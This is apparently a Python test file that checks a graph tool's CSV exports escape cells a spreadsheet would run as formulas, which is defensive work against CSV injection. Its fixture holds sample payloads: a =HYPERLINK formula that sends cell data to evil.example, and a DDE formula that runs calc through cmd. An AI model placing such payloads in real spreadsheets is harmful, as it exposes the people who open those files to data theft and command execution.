"""No CSV the project writes carries a cell a spreadsheet would run as a formula (issue 20, item 7), unless asked."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner

from jejaring.cli import cli
from jejaring.graph.views.analysis import analyse
from jejaring.graph.views.analysis import to_csv as analysis_csv
from jejaring.graph.views.export import to_csv, to_neo4j

#: What Excel and LibreOffice read as the start of a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
PAYLOAD_ROWS = [
    ["person", "organisation", "role", "start", "end", "event", "event_start"],
    [HYPERLINK, DDE, "+Staf", "2019-01-01", "", "@SUM(1+1) Forum", "2019-06-13"],
    ["\t=1+1 Wijaya", "-2+3 Dinas", "\r=2+2", "", "", "Seoul Visit", "2019-07-01"],
    ["Ani Wijaya", "-2+3 Dinas", "Staf", "", "", "Seoul Visit", "2019-07-01"],
]


@pytest.fixture(scope="module")
def graph(tmp_path_factory) -> str:
    """A curated CSV whose names and roles are formulas, ingested into an in-memory graph."""
    root = tmp_path_factory.mktemp("formulas")
    with open(root / "payload.csv", "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(PAYLOAD_ROWS)
    result = CliRunner().invoke(cli, ["ingest", str(root / "payload.csv"), "-g", str(root / "g.trig"), "-q"],
                                catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return str(root / "g.trig")


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


def csv_outputs(graph: str, out: Path, *extra: str) -> dict[str, str]:
    """Every CSV the command line writes for ``graph``: the csv and neo4j exports of each view, and analyse."""
    runner, texts = CliRunner(), {}
    for fmt in ("csv", "neo4j"):
        for view in ("stakeholders", "participation", "full"):
            folder = out / f"{fmt}-{view}"
            result = runner.invoke(cli, ["export", "-g", graph, "-f", fmt, "--view", view, "-o", str(folder), *extra],
                                   catch_exceptions=False)
            assert result.exit_code == 0, result.output
            texts.update({f"{fmt}-{view}/{p.name}": p.read_text(encoding="utf-8") for p in folder.glob("*.csv")})
    for view in ("stakeholders", "full"):
        result = runner.invoke(cli, ["analyse", "-g", graph, "--view", view, "--format", "csv", *extra],
                               catch_exceptions=False)
        assert result.exit_code == 0, result.output
        texts[f"analyse-{view}"] = result.stdout
    return texts


def test_csv_formulas_no_cell_of_any_csv_starts_a_formula(graph, tmp_path):
    """Before: nodes.csv had =HYPERLINK(...) and =cmd|' /C calc'!A0 as they are."""
    texts = csv_outputs(graph, tmp_path)
    assert len(texts) == 6 * 2 + 2
    for name, text in texts.items():
        unsafe = [c for c in cells(text) if c.startswith(FORMULA_STARTS)]
        assert unsafe == [], name
    for name in ("csv-full/nodes.csv", "neo4j-full/nodes.csv", "analyse-full"):
        assert {"'" + HYPERLINK, "'" + DDE, "'-2+3 Dinas", "'=1+1 Wijaya"} <= set(cells(texts[name])), name
    assert "'@SUM(1+1) Forum" in cells(texts["csv-participation/nodes.csv"])
    assert any(c.startswith("'+Staf: ") for c in cells(texts["csv-full/nodes.csv"]))  # a list cell, by its start


def test_csv_formulas_raw_csv_writes_cells_as_they_are(graph, tmp_path):
    texts = csv_outputs(graph, tmp_path, "--raw-csv")
    for name in ("csv-full/nodes.csv", "neo4j-full/nodes.csv", "analyse-full"):
        assert {HYPERLINK, DDE, "-2+3 Dinas"} <= set(cells(texts[name])), name
        assert not [c for c in cells(texts[name]) if c.startswith("'")], name


def test_csv_formulas_a_leading_tab_is_not_stripped_into_a_formula():
    G = nx.Graph()
    G.add_node("https://w3id.org/jejaring/id/person/a", label="\t=1+1", kind="person", posts=["@x", "=y"])
    G.add_node("https://w3id.org/jejaring/id/person/b", label="-1", kind="person")
    G.add_edge("https://w3id.org/jejaring/id/person/a", "https://w3id.org/jejaring/id/person/b",
               relation="co-attendance", role="+r", weight=-2)
    nodes = list(csv.DictReader(io.StringIO(to_csv(G)["nodes.csv"])))
    assert [(n["label"], n["posts"]) for n in nodes] == [("'\t=1+1", "'@x|=y"), ("'-1", "")]
    [edge] = csv.DictReader(io.StringIO(to_csv(G)["edges.csv"]))
    assert (edge["role"], edge["weight"]) == ("'+r", "-2")  # numbers stay numbers
    neo4j = list(csv.DictReader(io.StringIO(to_neo4j(G)["nodes.csv"])))
    assert [n["label"] for n in neo4j] == ["'=1+1", "'-1"]  # whitespace folded first, then escaped
    [rel] = csv.DictReader(io.StringIO(to_neo4j(G)["relationships.csv"]))
    assert (rel["role"], rel["weight:int"]) == ("'+r", "-2")
    assert [n["label"] for n in csv.DictReader(io.StringIO(to_csv(G, raw=True)["nodes.csv"]))] == ["\t=1+1", "-1"]
    rows = list(csv.DictReader(io.StringIO(analysis_csv(analyse(G)))))
    assert sorted(r["label"] for r in rows) == ["'\t=1+1", "'-1"]
    assert sorted(r["label"] for r in csv.DictReader(io.StringIO(analysis_csv(analyse(G), raw=True)))) == [
        "\t=1+1", "-1"]


def test_csv_formulas_sparql_results_stay_as_the_standard_says(graph):
    """SPARQL 1.1 CSV results carry the values as they are (documented in the README)."""
    query = "SELECT ?name WHERE { ?p a <https://schema.org/Person> ; <https://schema.org/name> ?name } ORDER BY ?name"
    result = CliRunner().invoke(cli, ["query", "-g", graph, "-e", query, "--format", "csv"], catch_exceptions=False)
    assert HYPERLINK in cells(result.stdout)
